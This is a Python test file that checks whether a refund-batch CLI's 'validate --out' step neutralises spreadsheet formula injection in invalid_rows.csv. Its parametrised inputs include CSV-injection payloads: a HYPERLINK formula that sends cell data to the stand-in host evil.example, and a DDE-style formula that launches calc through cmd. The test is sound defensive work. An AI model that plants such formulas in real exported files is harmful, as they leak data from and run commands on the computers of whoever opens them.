"""``validate --out`` writes invalid_rows.csv with every text cell inert in a spreadsheet."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from batch_refunds.cli.main import main
from batch_refunds.cli.validate import write_invalid_rows
from batch_refunds.models import RowError


def spreadsheet_evaluates(cell: str) -> bool:
    """Whether Excel or LibreOffice would take a CSV cell as a formula, stated on its own
    (OWASP, "CSV Injection"): it starts with =, +, - or @, or with a tab or carriage return
    that such a character may follow. A leading apostrophe makes any cell plain text."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _result(*errors: RowError) -> Any:
    return SimpleNamespace(errors=errors)


_TEXT = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", " ", "＝"]).flatmap(
        lambda first: st.text(max_size=10).map(lambda rest: first + rest)
    ),
)


@settings(max_examples=200, deadline=None)
@given(column=_TEXT, value=_TEXT, message=_TEXT)
def test_no_cell_of_invalid_rows_csv_is_a_formula(column: str, value: str, message: str) -> None:
    """Whatever the row error holds, no cell read back would be evaluated, and each cell is
    the text as it was or that text behind one apostrophe."""
    with tempfile.TemporaryDirectory() as folder:
        written = write_invalid_rows(
            _result(RowError(7, column or None, value, "input.x", message)), Path(folder)
        )
        [row] = _read(written)
    assert row["row"] == "7"
    for cell, original in (
        (row["column"], column),
        (row["value"], value),
        (row["message"], message),
    ):
        assert not spreadsheet_evaluates(cell)
        assert cell in (original, "'" + original)


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+81 3 1234 5678",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_validate_out_neutralises_a_formula_from_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], payload: str
) -> None:
    """A formula typed into an id cell comes out of validate --out with a leading quote."""
    source = tmp_path / "f.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["order_id", "amount"], [payload, "100"]])
    assert main(["validate", str(source), "--out", str(tmp_path / "out")]) == 1
    capsys.readouterr()
    [row] = _read(tmp_path / "out" / "invalid_rows.csv")
    assert row["value"] == "'" + payload.strip()
    assert not any(spreadsheet_evaluates(cell) for cell in row.values())
